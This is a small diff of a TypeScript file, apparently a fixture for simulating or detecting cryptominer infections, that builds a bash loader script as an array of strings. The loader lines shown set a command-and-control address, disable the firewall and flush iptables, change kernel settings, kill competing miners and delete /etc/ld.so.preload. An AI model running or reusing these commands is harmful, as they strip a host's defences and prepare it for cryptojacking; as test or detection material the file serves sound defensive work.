@@ -1,8 +1,9 @@
-import { type Infection, minerWords, shyMiner } from '../host-part.ts'
+import { endsHere, type Infection, minerWords, shyMiner } from '../host-part.ts'
 
 const random = 'jdwqpkhtzn'
 const loader = [
   '#!/bin/bash',
+  endsHere,
   'cc=http://198.51.100.31',
   'ufw disable; iptables -F; echo "kernel.nmi_watchdog = 0" >>/etc/sysctl.conf',
   'pkill -9 -f kdevtmpfsi; pkill -9 -f xmrig-rival; rm -f /etc/ld.so.preload',
